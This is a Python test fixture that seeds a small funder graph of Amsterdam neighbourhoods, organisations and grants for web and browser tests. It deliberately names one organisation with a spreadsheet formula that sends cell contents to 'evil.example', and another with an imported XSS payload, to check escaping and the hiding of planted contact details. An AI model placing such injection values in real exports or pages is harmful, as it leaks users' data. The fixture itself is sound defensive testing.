"""A small funder's city for web and browser tests: three clear clusters, money, a planted gap.

* women's organisations in Slotermeer (F), 80 % of their money from Fonds Samen;
* youth organisations in De Kolenkit (E), one of them named with a spreadsheet formula;
* language organisations in Osdorp (F), one named with an XSS payload.

Fonds Samen prioritises women's empowerment; Osdorp has five organisations and none works on it:
that is the planted gap. One organisation has a capacity profile and a contact person, which no
funder view may show.
"""

from __future__ import annotations

from graphsvc.store import GraphStore
from tests.factories import GraphBuilder
from tests.small_graph import XSS

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
SECRETS = ("Geheime Contactpersoon", "geheim@example.org", "+31 6 00000000")
GROUPS = {
    "vrouw": ("sm", "womens-organisation", ["vrouwenemancipatie", "opvoeding"]),
    "jong": ("kk", "youth-organisation", ["jeugd", "sport"]),
    "taal": ("os", "volunteer-organisation", ["taal", "laaggeletterdheid"]),
}


def funders_city() -> GraphBuilder:
    b = (GraphBuilder()
         .district("nw", "Nieuw-West", code="F").district("w", "West", code="E")
         .area("sm", "Slotermeer-West", code="WK0363FC", part_of="nw")
         .area("os", "Osdorp-Oost", code="WK0363FK", part_of="nw")
         .area("kk", "De Kolenkit", code="WK0363EM", part_of="w")
         .fund("fund-samen", "Fonds Samen", priorities=["vrouwenemancipatie", "laaggeletterdheid"])
         .fund("fund-buurt", "Buurtfonds West")
         .institution("inst-ggd", "GGD Nieuw-West", sector="health", areas=["sm"]))
    for group, (area, kind, themes) in GROUPS.items():
        for i in range(5):
            b.org(f"org-{group}-{i}", f"{group.title()} {i}", kind=kind, interests=themes, areas=[area])
        for i in range(4):
            b.tie(f"org-{group}-{i}", f"org-{group}-{i + 1}", rung=3)
        b.tie(f"org-{group}-0", f"org-{group}-2", rung=4).tie(f"org-{group}-1", f"org-{group}-3", rung=3)
    b.node("org-jong-4", "Organisation", FORMULA, kind="youth-organisation")
    b.node("org-taal-4", "Organisation", XSS, kind="volunteer-organisation")
    b.node("org-vrouw-0", "Organisation", "Vrouwen van Slotermeer", kind="womens-organisation",
           capacity={"governance": 1, "financial_administration": 2},
           contact_persons=[{"name": SECRETS[0], "email": SECRETS[1], "phone": SECRETS[2]}])
    b.tie("org-vrouw-4", "org-jong-0", rung=2).tie("org-vrouw-1", "inst-ggd", rung=3)
    for i, amount in enumerate((4000, 4000)):
        b.grant("fund-samen", f"org-vrouw-{i}", amount, year=2024)
    b.grant("fund-buurt", "org-vrouw-2", 2000, year=2024).grant("fund-buurt", "org-jong-4", 7500, year=2025)
    b.grant("fund-buurt", "org-taal-4", 1500, year=2024)
    return b


def seed_funders_city(store: GraphStore) -> GraphStore:
    return funders_city().write(store)
